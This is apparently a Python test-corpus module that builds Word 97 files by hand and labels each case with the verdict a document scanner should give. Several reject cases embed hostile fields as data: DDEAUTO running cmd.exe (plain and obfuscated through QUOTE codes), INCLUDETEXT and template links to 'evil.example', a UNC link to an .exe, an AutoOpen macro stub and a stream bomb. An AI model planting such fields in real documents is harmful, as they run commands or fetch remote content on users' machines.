"""Word 97 documents for the corpus, put together by hand: no library writes them ([MS-CFB], [MS-DOC]). catdoc reads what comes out."""

from __future__ import annotations

import struct
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.corpus.case import Case

_SECTOR, _END, _FAT, _FREE, _NONE = 512, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF, 0xFFFFFFFF
_HEADER = struct.Struct("<8s16xHHHHH6xIIIIIIIIII")
_FIB = 900  # bytes of the file information block
MANUAL = "Инструкция к модели «Ёжик»\rМодель находит дефекты сварных швов. Запустите run.exe и укажите папку.\r"

Tree = Mapping[str, "bytes | Tree"]


def container(tree: Tree) -> bytes:
    """A compound file. Streams that are not empty are filled up to 4096 bytes, below which they would need a second allocation table."""
    rows: list[dict[str, int | str]] = []
    data = bytearray()
    fat: list[int] = []
    _add("Root Entry", tree, rows, data, fat)
    directory = b"".join(_row(row) for row in rows)
    directory += bytes(-len(directory) % _SECTOR)
    start = len(fat)
    _chain(fat, len(directory) // _SECTOR)
    tables = 1
    while tables * 128 < len(fat) + tables:
        tables += 1
    first = len(fat)
    fat += [_FAT] * tables
    fat += [_FREE] * (tables * 128 - len(fat))
    head = _HEADER.pack(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 0x3E, 3, 0xFFFE, 9, 6, 0, tables, start, 0, 4096, _END, 0, _END, 0, first
    )
    places = [first + index for index in range(1, tables)]
    head = head + struct.pack(f"<{len(places)}I", *places)
    head += b"\xff" * (_SECTOR - len(head))
    return head + bytes(data) + directory + struct.pack(f"<{len(fat)}I", *fat)


def _chain(fat: list[int], sectors: int) -> None:
    first = len(fat)
    fat += [first + index + 1 for index in range(sectors - 1)] + [_END]


def _add(name: str, what: bytes | Tree, rows: list[dict[str, int | str]], data: bytearray, fat: list[int]) -> int:
    index = len(rows)
    kind = 2 if isinstance(what, bytes) else 5 if index == 0 else 1
    row: dict[str, int | str] = {
        "name": name,
        "kind": kind,
        "left": _NONE,
        "right": _NONE,
        "child": _NONE,
        "start": _END if kind == 5 else 0,
        "size": 0,
    }
    rows.append(row)
    if isinstance(what, bytes):
        whole = what + bytes(max(0, 4096 - len(what)) if what else 0)
        row["start"], row["size"] = len(fat) if whole else _END, len(whole)
        data += whole + bytes(-len(whole) % _SECTOR)
        if whole:
            _chain(fat, -(-len(whole) // _SECTOR))
        return index
    names = sorted(what, key=lambda one: (len(one), one.upper()))
    row["child"] = _rooted([_add(child, what[child], rows, data, fat) for child in names], rows)
    return index


def _rooted(numbers: list[int], rows: list[dict[str, int | str]]) -> int:
    """A balanced tree of these rows, in their order; the number of its root."""
    if not numbers:
        return _NONE
    middle = len(numbers) // 2
    row = rows[numbers[middle]]
    row["left"], row["right"] = _rooted(numbers[:middle], rows), _rooted(numbers[middle + 1 :], rows)
    return numbers[middle]


def _row(row: Mapping[str, int | str]) -> bytes:
    name = str(row["name"]).encode("utf-16-le") + b"\0\0"
    return struct.pack(
        "<64sHBBIII16x4x16xIQ",
        name,
        len(name),
        row["kind"],
        1,
        row["left"],
        row["right"],
        row["child"],
        row["start"],
        row["size"],
    )


def document(
    text: str = MANUAL, *, flags: int = 0, template: str = "", pieces: Callable[[bytes], bytes] = bytes
) -> dict[str, bytes]:
    """The two streams that every Word document has."""
    letters = text.encode("utf-16-le")
    table = pieces(b"\x02" + struct.pack("<I", 16) + struct.pack("<II", 0, len(text)) + struct.pack("<HIH", 0, _FIB, 0))
    strings = b"\xff\xff" + struct.pack("<HH", 2, 0)
    strings += b"".join(struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in ("", template))
    fib = bytearray(_FIB)
    struct.pack_into("<HHHHHH", fib, 0, 0xA5EC, 0xC1, 0, 0x419, 0, 0x0200 | 0x1000 | flags)
    struct.pack_into("<II", fib, 0x18, _FIB, _FIB + len(letters))
    struct.pack_into("<H", fib, 0x20, 14)
    struct.pack_into("<I", fib, 0x4C, len(text))
    struct.pack_into("<II", fib, 0x1A2, 0, len(table))
    struct.pack_into("<II", fib, 0x19A, len(table), len(strings))
    return {"WordDocument": bytes(fib) + letters, "1Table": table + strings}


def plain() -> bytes:
    """A manual in Russian."""
    return container(document())


def _field(code: str) -> bytes:
    return container(document(f"Текст \x13 {code} \x14показано\x15 дальше\r"))


def _with(**more: bytes | Tree) -> bytes:
    return container({**document(), **more})


def _long_piece(table: bytes) -> bytes:
    return table[:9] + b"\xff\xff\xff\x0f" + table[13:]


def _case(name: str, data: Callable[[], bytes], verdict: str = "pass", *rules: str) -> Case:
    def build(path: Path) -> None:
        path.write_bytes(data())

    return Case(name, "instruction", build, verdict, rules)


_VBA: Tree = {"VBA": {"dir": b"\1" * 40, "_VBA_PROJECT": b"\xcc\x61" * 20, "ThisDocument": b"Sub AutoOpen()\r\nEnd Sub\r\n"}}
_OBJECT: Tree = {"_1279313719": {"\x01Ole10Native": b"x" * 100}}

CASES = (
    _case("инструкция.doc", plain),
    _case("длинная.doc", lambda: container(document(MANUAL * 2_000))),
    _case("с-полем-страницы.doc", lambda: _field("PAGE \\* MERGEFORMAT")),
    _case("со-ссылкой.doc", lambda: _field('HYPERLINK "https://example.ru/"')),
    _case("шаблон-на-диске.doc", lambda: container(document(template="C:\\Templates\\Отчёт.dot"))),
    _case("картинка-с-сайта.doc", lambda: _field('INCLUDEPICTURE "http://tracker.example.com/p.png"'), "warn", "doc.remote_image"),
    _case("хвост.doc", lambda: plain() + b"z" * 9_000, "warn", "format.trailing"),
    _case("макросы.doc", lambda: _with(Macros=_VBA), "reject", "doc.macros"),
    _case("объект.doc", lambda: _with(ObjectPool=_OBJECT), "reject", "doc.embedded"),
    _case("dde.doc", lambda: _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "reject", "doc.dde"),
    _case("dde-кодами-букв.doc", lambda: _field("\x13 QUOTE 68 68 69 65 85 84 79 \x14 \x15 cmd calc"), "reject", "doc.dde"),
    _case("чужой-текст.doc", lambda: _field('INCLUDETEXT "http://evil.example/a.doc"'), "reject", "doc.external"),
    _case("ссылка-по-сети.doc", lambda: _field('HYPERLINK "\\\\evil\\share\\a.exe"'), "reject", "doc.external"),
    _case("шаблон-с-сайта.doc", lambda: container(document(template="http://evil.example/t.dot")), "reject", "doc.external"),
    _case("пароль.doc", lambda: container(document(flags=0x0100)), "reject", "doc.encrypted"),
    _case("десять-тысяч-потоков.doc", lambda: _with(**{f"s{number}": b"" for number in range(10_000)}), "reject", "doc.bomb"),
    _case("обрезан.doc", lambda: plain()[:-700], "reject", "format.truncated"),
    _case("половина.doc", lambda: container(document(MANUAL * 2_000))[:60_000], "reject", "format.mismatch"),
    _case("сбит-кусок.doc", lambda: container(document(pieces=_long_piece)), "reject", "format.damaged"),
    _case("сбит-fib.doc", lambda: container({**document(), "WordDocument": b"zz" + document()["WordDocument"][2:]}), "reject", "format.damaged"),
    _case("и-zip-и-doc.doc", lambda: plain() + b"PK\3\4" + bytes(200), "reject", "format.hidden"),
    _case("таблица.doc", lambda: container({"Workbook": b"x" * 5_000}), "reject", "format.mismatch"),
    _case("rtf-под-видом.doc", lambda: b"{\\rtf1 text}", "reject", "format.mismatch"),
    _case("пусто.doc", lambda: b"", "reject", "format.empty"),
)  # fmt: skip
